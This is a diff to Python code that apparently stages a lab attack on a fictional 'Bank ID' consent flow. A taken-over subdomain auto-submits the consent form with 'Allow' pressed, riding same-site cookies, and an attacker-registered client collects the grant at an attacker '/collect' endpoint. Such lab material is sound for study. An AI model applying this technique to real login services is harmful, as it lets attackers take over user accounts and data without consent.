@@ -19,7 +19,8 @@ HOSTS = {"shop.auth": sale}  # a subdomain of Bank ID's that somebody gave up, a
 
 @sale.get("/")
 def sends_itself() -> Response:
-    """Send the consent form of the request that stands in the address, with “Allow” pressed."""
+    """Send the consent form of the request that stands in the URL, with “Allow” pressed."""
+    # To a browser `shop.auth` and `auth` are one site, so the cookie goes along with a form from here.
     action = f"{request.environ['labs.world'].here.auth}/consent"
     page = Response(render_template_string(PAGE, action=action, fields=list(request.args.items())))
     page.headers["Content-Security-Policy"] = "default-src 'none'; style-src 'self'; script-src 'unsafe-inline'"
@@ -38,6 +39,7 @@ def makes_a_link(stage: Stage) -> None:
     redirect_uri = f"{stage.here.attacker}/collect"
     stage.kept["client_id"] = stage.attacker.register("Recipes", redirect_uri, **PUBLIC)["client_id"]
     parameters = dict(parse_qsl(urlsplit(stage.link(stage.kept["client_id"], redirect_uri)).query))
+    # All fields of the real form can be guessed, but one: the token that Bank ID puts into its own pages.
     form = parameters | {"requested_scope": parameters["scope"], "decision": "allow"}
     stage.onward = f"{stage.here.origin('shop.auth')}/?{urlencode(form)}"
 
